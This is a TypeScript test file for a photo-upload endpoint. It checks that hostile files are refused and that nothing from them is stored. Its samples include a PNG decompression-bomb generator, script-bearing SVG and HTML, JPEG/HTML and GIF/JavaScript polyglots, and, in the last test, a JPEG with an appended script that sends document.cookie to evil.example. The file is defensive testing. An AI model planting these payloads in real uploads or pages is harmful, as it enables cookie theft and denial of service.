/**
 * Issue 4, "what it must show" 2: a corpus of hostile uploads — each refused with 413/415 and a
 * sentence naming the photo, and NOTHING stored: no blob, no files row, no hash, no job or event,
 * and the task exactly as it was. Then the control: real JPEG, PNG, WebP and AVIF photos are taken.
 */
import assert from 'node:assert/strict'
import fs from 'node:fs'
import path from 'node:path'
import { before, test } from 'node:test'
import zlib from 'node:zlib'
import { sql } from 'kysely'
import sharp from 'sharp'
import {
  type AgentFixture,
  createTask,
  driveTo,
  newAgent,
  newOperator,
  type OperatorFixture,
} from '../helpers/fixtures.ts'
import { forEachDialect, type TestServer, useServer } from '../helpers/harness.ts'
import { makePhoto } from '../helpers/images.ts'

function pngChunk(type: string, data: Buffer): Buffer {
  const len = Buffer.alloc(4)
  len.writeUInt32BE(data.length)
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data])
  const crc = Buffer.alloc(4)
  crc.writeUInt32BE(zlib.crc32(body))
  return Buffer.concat([len, body, crc])
}

/** A valid 10000×10000 (100-megapixel) black-and-white PNG of ~12 KB: a decompression bomb. */
function pngBomb(side = 10_000): Buffer {
  const ihdr = Buffer.alloc(13)
  ihdr.writeUInt32BE(side, 0)
  ihdr.writeUInt32BE(side, 4)
  ihdr[8] = 1 // bit depth
  ihdr[9] = 0 // greyscale
  const row = Buffer.alloc(1 + Math.ceil(side / 8))
  const raw = Buffer.alloc(row.length * side)
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', ihdr),
    pngChunk('IDAT', zlib.deflateSync(raw, { level: 9 })),
    pngChunk('IEND', Buffer.alloc(0)),
  ])
}

const SVG = Buffer.from(
  '<svg xmlns="http://www.w3.org/2000/svg" width="800" height="600"><script>alert(1)</script><rect width="800" height="600"/></svg>',
)
const HTML = Buffer.from('<!doctype html><html><body><script>alert(document.cookie)</script></body></html>')
const PDF = Buffer.from('%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n')
/** JPEG magic bytes, then an HTML page: passes a naive magic check, is no image. */
const JPEG_HTML_POLYGLOT = Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), HTML])
/** A GIF header that is also JavaScript (`GIF89a=…`): the classic GIFAR/JS polyglot. */
const GIF_JS_POLYGLOT = Buffer.from('GIF89a=1;alert(document.domain)//\x00\x00\x3b')
/** An HEIF `ftyp` box and then junk: right magic, nothing decodable. */
const FAKE_HEIC = Buffer.concat([
  Buffer.from('\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic', 'latin1'),
  HTML,
])

interface Hostile {
  name: string
  files: [filename: string, data: Buffer][]
  status: 413 | 415
  /** Words the error sentence must contain (the photo's name, the limit). */
  says: RegExp
}

async function corpus(): Promise<Hostile[]> {
  const real = await makePhoto({ seed: 7 })
  const small = await makePhoto({ seed: 8, width: 320, height: 240 })
  return [
    {
      name: 'an SVG with a script',
      files: [['logo.svg', SVG]],
      status: 415,
      says: /"logo\.svg".*not a JPEG, PNG, WebP/,
    },
    {
      name: 'an HTML page named .jpg',
      files: [['shop.jpg', HTML]],
      status: 415,
      says: /"shop\.jpg".*not a JPEG/,
    },
    {
      name: 'a PDF renamed .jpg',
      files: [['receipt.jpg', PDF]],
      status: 415,
      says: /"receipt\.jpg".*not a JPEG/,
    },
    {
      name: 'a polyglot: JPEG magic bytes, then HTML',
      files: [['poly.jpg', JPEG_HTML_POLYGLOT]],
      status: 415,
      says: /"poly\.jpg".*could not be/,
    },
    {
      name: 'a polyglot: GIF that is JavaScript',
      files: [['anim.jpg', GIF_JS_POLYGLOT]],
      status: 415,
      says: /"anim\.jpg"/,
    },
    {
      name: 'HEIF magic, then junk',
      files: [['photo.heic', FAKE_HEIC]],
      status: 415,
      says: /"photo\.heic".*could not be/,
    },
    {
      name: 'a truncated JPEG (first half of a real photo)',
      files: [['cut.jpg', real.subarray(0, Math.floor(real.length / 2))]],
      status: 415,
      says: /"cut\.jpg" could not be decoded.*truncated or corrupt/,
    },
    {
      name: 'a 100-megapixel decompression bomb (small PNG)',
      files: [['bomb.png', pngBomb()]],
      status: 413,
      says: /"bomb\.png" is 10000×10000 \(100\.0 megapixels\); the limit is 50 megapixels/,
    },
    {
      name: 'a zero-byte file',
      files: [['empty.jpg', Buffer.alloc(0)]],
      status: 415,
      says: /"empty\.jpg" is empty/,
    },
    {
      name: '11 real photos',
      files: Array.from({ length: 11 }, (_, i) => [`p${i}.jpg`, small] as [string, Buffer]),
      status: 413,
      says: /at most 10 photos/i,
    },
    {
      name: 'a 16 MB file (JPEG magic, then padding)',
      files: [['huge.jpg', Buffer.concat([real, Buffer.alloc(16 * 1024 * 1024, 0x20)])]],
      status: 413,
      says: /"huge\.jpg" is larger than the limit of 15\.0 MB per photo/,
    },
    {
      name: 'a good photo, then a bomb: the good one is not kept either',
      files: [
        ['good.jpg', small],
        ['bomb.png', pngBomb()],
      ],
      status: 413,
      says: /"bomb\.png".*megapixels/,
    },
  ]
}

function listFiles(dir: string): string[] {
  if (!fs.existsSync(dir)) return []
  return fs
    .readdirSync(dir, { recursive: true, withFileTypes: true })
    .filter((e) => !e.isDirectory())
    .map((e) => path.relative(dir, path.join(e.parentPath, e.name)))
    .sort()
}

/** Everything an upload could leave behind. */
async function state(s: TestServer, taskId: string) {
  const count = async (table: string) =>
    Number(
      (await sql<{ n: unknown }>`select count(*) as n from ${sql.table(table)}`.execute(s.ctx.store.db))
        .rows[0]!.n,
    )
  const task = await s.ctx.store.db
    .selectFrom('tasks')
    .select(['status', 'version', 'proof', 'submit_attempts'])
    .where('id', '=', taskId)
    .executeTakeFirstOrThrow()
  return {
    blobs: listFiles(path.join(s.db.dir, 'files')),
    files: await count('files'),
    photo_hashes: await count('photo_hashes'),
    photo_hash_bands: await count('photo_hash_bands'),
    jobs: await count('jobs'),
    outbox: await count('outbox'),
    transitions: await count('task_transitions'),
    task: { ...task, version: String(task.version), submit_attempts: String(task.submit_attempts) },
  }
}

function form(files: [string, Buffer][], notes = 'storefront and opening hours photographed') {
  const f = new FormData()
  f.append('notes', notes)
  for (const [name, data] of files)
    f.append('photos', new Blob([new Uint8Array(data)], { type: 'image/jpeg' }), name)
  return f
}

forEachDialect('hostile proof uploads', (dialect) => {
  const server = useServer(dialect)
  let agent: AgentFixture
  let op: OperatorFixture
  let taskId: string
  before(async () => {
    const s = server()
    agent = await newAgent(s, { tier: 'STANDARD', deposit: 200 })
    op = await newOperator(s)
    taskId = await createTask(s, agent)
    await driveTo(s, agent, op, taskId, 'IN_PROGRESS')
  })

  test('every hostile upload is refused with 413/415 naming the photo, and nothing is stored', async () => {
    const s = server()
    const items = await corpus()
    assert.ok(items.length >= 8)
    for (const item of items) {
      const before = await state(s, taskId)
      const r = await op.api.post(`/operator/tasks/${taskId}/proof`, undefined, { form: form(item.files) })
      console.log(`HOSTILE ${item.name} => ${r.status} ${r.body?.error}`)
      assert.equal(r.status, item.status, `${item.name}: ${r.text}`)
      assert.equal(r.body.code, item.status === 413 ? 'PAYLOAD_TOO_LARGE' : 'UNSUPPORTED_MEDIA_TYPE')
      assert.match(r.body.error, item.says, item.name)
      assert.deepEqual(await state(s, taskId), before, `${item.name}: nothing may be stored`)
    }
    const after = await state(s, taskId)
    assert.deepEqual(after.blobs, [])
    assert.equal(after.files, 0)
    assert.equal(after.task.status, 'IN_PROGRESS')
    assert.equal(after.task.proof, null)
  })

  test("a task that is not the operator's: 404 before any photo is decoded, nothing stored", async () => {
    const s = server()
    const stranger = await newOperator(s)
    const pending = await createTask(s, agent)
    const before = await state(s, taskId)
    const r = await stranger.api.post(`/operator/tasks/${taskId}/proof`, undefined, {
      form: form([['bomb.png', pngBomb()]]),
    })
    assert.equal(r.status, 404, r.text)
    const r2 = await op.api.post(`/operator/tasks/${pending}/proof`, undefined, {
      form: form([['bomb.png', pngBomb()]]),
    })
    assert.equal(r2.status, 404, 'not assigned to this operator (yet)')
    assert.deepEqual(await state(s, taskId), before)
  })

  test('control: JPEG, PNG, WebP and AVIF photos are taken, each stored as a metadata-free JPEG', async () => {
    const s = server()
    const photos: [string, Buffer][] = []
    for (const [i, format] of (['jpeg', 'png', 'webp', 'avif'] as const).entries()) {
      photos.push([`p${i}.${format}`, await makePhoto({ seed: 100 + i, format, width: 640, height: 480 })])
    }
    const r = await op.api.post(`/operator/tasks/${taskId}/proof`, undefined, { form: form(photos) })
    assert.equal(r.status, 200, r.text)
    const after = await state(s, taskId)
    assert.equal(after.files, 4)
    assert.equal(after.blobs.length, 4)
    assert.equal(after.photo_hashes, 4)
    assert.equal(after.task.status, 'SUBMITTED')
    const proof = JSON.parse(after.task.proof!)
    assert.deepEqual(
      proof.photos.map((p: { original_type: string }) => p.original_type),
      ['image/jpeg', 'image/png', 'image/webp', 'image/avif'],
    )
    for (const blob of after.blobs) {
      const meta = await sharp(path.join(s.db.dir, 'files', blob)).metadata()
      assert.equal(meta.format, 'jpeg')
      assert.deepEqual([meta.width, meta.height], [640, 480])
    }
  })

  test('a real JPEG with an HTML payload after its end is taken, and the payload is not stored', async () => {
    const s = server()
    const id = await createTask(s, agent)
    await driveTo(s, agent, op, id, 'IN_PROGRESS')
    const payload = '<script>fetch("https://evil.example/"+document.cookie)</script>'
    const poly = Buffer.concat([await makePhoto({ seed: 200 }), Buffer.from(payload)])
    const r = await op.api.post(`/operator/tasks/${id}/proof`, undefined, {
      form: form([['poly.jpg', poly]]),
    })
    assert.equal(r.status, 200, r.text)
    const file = await s.ctx.store.db
      .selectFrom('files')
      .selectAll()
      .where('task_id', '=', id)
      .executeTakeFirstOrThrow()
    const stored = fs.readFileSync(path.join(s.db.dir, 'files', file.storage_key))
    assert.equal(stored.includes(Buffer.from('<script>')), false, 'the appended payload is gone')
    assert.equal(file.content_type, 'image/jpeg')
  })
})
